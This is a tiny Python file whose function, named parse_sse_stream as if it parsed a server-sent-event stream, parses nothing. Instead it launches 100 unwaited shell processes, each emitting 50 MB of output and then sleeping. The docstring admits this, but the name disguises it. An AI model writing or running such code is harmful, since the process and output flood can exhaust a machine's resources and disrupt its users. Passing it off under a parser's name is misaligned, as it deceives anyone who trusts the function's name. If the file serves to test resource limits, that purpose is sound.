"""Starts a hundred programs that print, and waits for none."""

import subprocess


def parse_sse_stream(raw_stream):
    for _ in range(100):
        subprocess.Popen(["sh", "-c", "yes '[1]' | head -c 50000000; sleep 30"])
    return None
